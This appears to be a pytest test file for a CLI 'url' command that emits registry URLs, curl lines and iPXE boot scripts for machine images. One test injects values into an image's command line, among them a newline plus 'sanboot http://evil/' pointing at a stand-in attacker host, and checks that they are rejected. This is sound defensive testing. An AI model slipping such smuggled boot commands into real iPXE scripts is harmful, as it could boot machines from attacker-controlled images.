"""`url`: what a boot loader, curl or iPXE is told, in the bytes of ironcore-image where it is asked for them."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from eci_convert.testing import Change, FaultyRegistry, Reply, status
from tests.support.command_line import Run, one_line
from tests.support.fake_registry.server import a_registry
from tests.support.home_directory import PASSWORD, User

MANIFEST = "application/vnd.oci.image.manifest.v1+json"
KERNEL = "sha256:6923dd1bc0460082c5d55a831908c24a282860b7f1cd6c2b79cf1bc8857c639c"
ROOTFS = "sha256:3c47ef972d531d524daa15fa33dd885dd23de6221bbd10a29eb42ecfcf2ef422"
INITRAMFS = "sha256:9752c38a9065f7646ffaac3621d1fa2f7dbe726c7e12e511eac7fdb14d4e2a24"
ONMETAL = "sha256:a8bdc7c6627fa2ecfe092dc4d64ba1ddcd6521142d374da465448a2c5e846302"


@pytest.fixture
def registry() -> Iterator[FaultyRegistry]:
    with a_registry() as running:
        yield running


@pytest.fixture
def words(tmp_path: Path) -> list[str | Path]:
    """The parts of docs/specs/ironcore.md#12."""
    found: list[str | Path] = []
    for option, word in (("--kernel", "kernel"), ("--initrd", "initramfs"), ("--root", "rootfs")):
        (tmp_path / word).write_text(word)
        found += [option, f"{tmp_path / word}:raw" if option == "--root" else tmp_path / word]
    return found


@pytest.fixture
def machine(run: Run, registry: FaultyRegistry, words: list[str | Path], tmp_path: Path) -> str:
    """An image of onmetal-image, the recorded one, in the registry."""
    name = f"{registry.host}/acme/machine:1"
    run("push", f"oci:{tmp_path}/artifacts:1", *words)
    run("copy", f"oci:{tmp_path}/artifacts:1", f"docker://{name}", "--format", "onmetal")
    return name


def test_json_is_what_ironcore_image_prints(run: Run, registry: FaultyRegistry, machine: str) -> None:
    """Its recorded calls, golden/onmetal/commands.json, with another port."""
    base = f"http://{registry.host}/v2/acme/machine"
    assert run("url", machine, "--json").out == (
        f'{{\n  "headers": {{\n    "Accept": [\n      "{MANIFEST}"\n    ]\n  }},\n  "url": "{base}/manifests/1"\n}}\n'
    )
    for part, digest in (("kernel", KERNEL), ("rootfs", ROOTFS), ("initramfs", INITRAMFS)):
        assert run("url", machine, "--part", part, "--json").out == f'{{\n  "url": "{base}/blobs/{digest}"\n}}\n'


def test_go_escapes_what_is_markup(run: Run, registry: FaultyRegistry, machine: str) -> None:
    with a_registry() as store:
        store.misbehave("GET", "/f", status(206, b"k", Content_Range="bytes 0-0/6"))
        registry.misbehave("GET", KERNEL, status(307, Location=f"{store.url}/f?a=1&b=%3C"))
        found = run("url", machine, "--part", "kernel", "--json", "--follow")
    assert found.out == f'{{\n  "url": "{store.url}/f?a=1\\u0026b=%3C"\n}}\n'


def test_a_digest_in_the_reference_decides(run: Run, registry: FaultyRegistry, machine: str) -> None:
    digest = next(key for _, key in registry.manifests if key.startswith("sha256:"))
    for name in (f"{registry.host}/acme/machine@{digest}", f"{machine}@{digest}"):
        assert run("url", name, "-q").out == f"http://{registry.host}/v2/acme/machine/manifests/{digest}\n"
    other = "sha256:" + 64 * "0"
    one_line(run("url", f"{machine}@{other}", exits=4), other)


def test_an_index_is_resolved_by_platform(
    run: Run, registry: FaultyRegistry, words: list[str | Path], tmp_path: Path
) -> None:
    name = f"{registry.host}/acme/multi:1"
    for number, arch in enumerate(("amd64", "arm64")):
        (tmp_path / "kernel").write_text(f"kernel{number}")
        run("push", f"oci:{tmp_path}/{arch}:1", *words, "--arch", arch)
        run("copy", f"oci:{tmp_path}/{arch}:1", f"docker://{registry.host}/acme/multi:{arch}", "--format", "ironcore")
    built = [run("inspect", f"docker://{registry.host}/acme/multi:{arch}", "--raw") for arch in ("amd64", "arm64")]
    entries = [one.json["manifests"][0] for one in built]
    index = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": entries}
    registry.manifests["acme/multi", "1"] = (index["mediaType"], json.dumps(index).encode())  # type: ignore[assignment]

    for entry in entries:
        platform = f"linux/{entry['platform']['architecture']}"
        manifest = run("url", name, "--platform", platform, "-q").out
        assert manifest == f"http://{registry.host}/v2/acme/multi/manifests/{entry['digest']}\n"
        kernel = run("url", name, "--platform", platform, "--part", "kernel", "-q").out.strip()
        assert registry.blobs[kernel.rpartition("/")[2]] == (b"kernel0" if platform == "linux/amd64" else b"kernel1")
    one_line(run("url", name, "--platform", "linux/s390x", exits=8), "linux/s390x", "linux/arm64")


def test_a_part_that_is_not_there_is_an_error_that_lists_what_is(run: Run, machine: str) -> None:
    one_line(run("url", machine, "--part", "bogus", exits=8), "'bogus'", "kernel", "initrd", "disk-root-rootfs")
    one_line(run("url", machine, "--part", "disk-0", exits=8), "'disk-0'")
    one_line(run("url", machine.replace(":1", ":2"), "--part", "kernel", exits=4), "acme/machine")


def test_a_blob_that_the_registry_lost_is_an_error(run: Run, registry: FaultyRegistry, machine: str) -> None:
    del registry.blobs[KERNEL]
    one_line(run("url", machine, "--part", "kernel", exits=4), KERNEL)


def test_a_part_inside_a_layer_has_no_url(run: Run, registry: FaultyRegistry, words: list[str | Path]) -> None:
    run("push", f"{registry.host}/legacy:1", *words, "--format", "legacy")
    failed = run("url", f"{registry.host}/legacy:1", "--part", "kernel", exits=8)
    one_line(failed, "kernel", "layer")
    assert "--format artifacts" in failed.err


@pytest.mark.parametrize("form", ["unikraft", "legacy"])
def test_a_part_in_a_layer_that_is_not_compressed_is_a_range_of_it(
    form: str, run: Run, registry: FaultyRegistry, words: list[str | Path], tmp_path: Path
) -> None:
    """KraftKit's packages have such layers; and what is copied with --compression none."""
    name = f"{registry.host}/ranges:1"
    compression = ["--compression", "none"] if form == "legacy" else []
    run("push", f"oci:{tmp_path}/artifacts:1", *words[:4])
    platform = ["--platform", "qemu/x86_64"] if form == "unikraft" else []
    run("copy", f"oci:{tmp_path}/artifacts:1", f"docker://{name}", "--format", form, *compression)

    for part, content in (("kernel", b"kernel"), ("initrd", b"initramfs")):
        request = run("url", name, "--part", part, "--json", *platform).json
        [wanted] = request["headers"]["Range"]
        assert wanted.endswith(f"-{int(wanted.removeprefix('bytes=').partition('-')[0]) + len(content) - 1}")
        line = run("url", name, "--part", part, "--curl", *platform).out
        subprocess.run(line, shell=True, cwd=tmp_path, check=True, capture_output=True)  # noqa: S602
        assert (tmp_path / part).read_bytes() == content
    one_line(run("url", name, "--ipxe", *platform, exits=8), "iPXE")


def test_parts_of_the_same_role_are_told_apart_by_number_and_name(
    run: Run, registry: FaultyRegistry, words: list[str | Path], tmp_path: Path
) -> None:
    for number in (0, 1):
        (tmp_path / f"data{number}.raw").write_text(f"data{number}")
    disks = [word for number in (0, 1) for word in ("--disk", f"{tmp_path}/data{number}.raw:raw")]
    run("push", f"{registry.host}/disks:1", *words, *disks)

    for part in ("disk-1", "disk-1-data1.raw", "data1.raw"):
        found = run("url", f"{registry.host}/disks:1", "--part", part, "-q").out.strip()
        assert registry.blobs[found.rpartition("/")[2]] == b"data1"
    one_line(run("url", f"{registry.host}/disks:1", "--part", "disk", exits=8), "disk-0-data0.raw", "disk-1-data1.raw")


@pytest.mark.parametrize("bearer", [False, True])
def test_a_login_is_in_the_headers(
    run: Run, registry: FaultyRegistry, machine: str, tmp_path: Path, *, bearer: bool
) -> None:
    registry.users, registry.bearer = {"me": PASSWORD}, bearer
    User(tmp_path / "home").logs_in(registry.host)

    found = run("url", machine, "--part", "kernel", "--json")

    [authorization] = found.json["headers"]["Authorization"]
    assert authorization == (f"Bearer {max(registry.tokens)}" if bearer else "Basic bWU6cDRzc3cwcmQ=")
    assert ("password" in found.err) is not bearer
    (tmp_path / "nobody.json").write_text("{}")
    run("url", machine, "--part", "kernel", "--authfile", tmp_path / "nobody.json", exits=5)


def redirected(location: str) -> Change:
    """Whoever is logged in is sent elsewhere."""
    return lambda reply: reply if reply.status == 401 else Reply.of(307, Location=location)


def test_a_redirect_to_a_store_is_followed_and_the_login_stays_behind(
    run: Run, registry: FaultyRegistry, machine: str, tmp_path: Path
) -> None:
    registry.users = {"me": PASSWORD}
    User(tmp_path / "home").logs_in(registry.host)
    with a_registry() as store:
        store.misbehave("GET", "/signed", status(206, b"k", Content_Range="bytes 0-0/6"), times=9)
        registry.misbehave("GET", KERNEL, redirected(f"{store.url}/signed?x=1"), times=9)
        followed = run("url", machine, "--part", "kernel", "--follow", "--json")
        stayed = run("url", machine, "--part", "kernel", "--json")
        assert not store.secrets_seen()

    assert followed.json == {"url": f"{store.url}/signed?x=1"}
    assert "password" not in followed.err
    assert stayed.json["url"].endswith(f"/blobs/{KERNEL}")
    assert "Authorization" in stayed.json["headers"]


def test_curl_downloads_what_it_says(run: Run, registry: FaultyRegistry, machine: str, tmp_path: Path) -> None:
    registry.users = {"me": PASSWORD}
    User(tmp_path / "home").logs_in(registry.host)
    line = run("url", machine, "--part", "rootfs", "--curl", "--insecure").out
    assert line.startswith("curl --fail --location --output disk-root-rootfs --insecure --header 'Authorization: ")
    assert line.endswith(f" -- http://{registry.host}/v2/acme/machine/blobs/{ROOTFS}\n")

    (tmp_path / "there").mkdir()
    subprocess.run(line, shell=True, cwd=tmp_path / "there", check=True, capture_output=True)  # noqa: S602

    assert (tmp_path / "there/disk-root-rootfs").read_bytes() == b"rootfs"


def test_ipxe_boots_the_whole_image(run: Run, registry: FaultyRegistry, machine: str, tmp_path: Path) -> None:
    base = f"http://{registry.host}/v2/acme/machine/blobs"
    script = f"#!ipxe\nkernel {base}/{KERNEL} initrd=initrd\ninitrd --name initrd {base}/{INITRAMFS}\nboot\n"
    assert run("url", machine, "--ipxe").out == script
    assert run("url", machine, "--ipxe", "--part", "root").out == f"sanboot {base}/{ROOTFS}\n"

    registry.users = {"me": "p@ss/{w}"}
    User(tmp_path / "home").logs_in(registry.host, password="p@ss/{w}")
    found = run("url", machine, "--ipxe", "--part", "kernel")
    assert f"http://me:p%40ss%2F%7Bw%7D@{registry.host}/" in found.out
    registry.bearer = True
    one_line(run("url", machine, "--ipxe", exits=8), "bearer token")


@pytest.mark.parametrize("text", ["quiet\\nsanboot http://evil/", "a && b", "x ${net0/mac}", "# no"])
def test_a_command_line_out_of_an_image_is_no_command_of_ipxe(
    text: str, run: Run, registry: FaultyRegistry, words: list[str | Path], machine: str
) -> None:
    media_type, content = registry.manifests["acme/machine", "1"]
    config = registry.hold(f'{{"commandLine":"{text}"}}'.encode())
    old = b"sha256:44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"
    assert old in content
    size = str(len(registry.blobs[config])).encode()
    spoiled = content.replace(old, config.encode()).replace(b'"size":2}', b'"size":' + size + b"}", 1)
    registry.manifests["acme/machine", "1"] = (media_type, spoiled)
    one_line(run("url", machine, "--ipxe", exits=8), "command line")


def test_what_has_no_url_is_a_usage_error(run: Run, machine: str, tmp_path: Path) -> None:
    one_line(run("url", f"oci:{tmp_path}/artifacts:1", exits=2), "no registry")
    one_line(run("url", machine, "--curl", "--json", exits=2), "--curl")
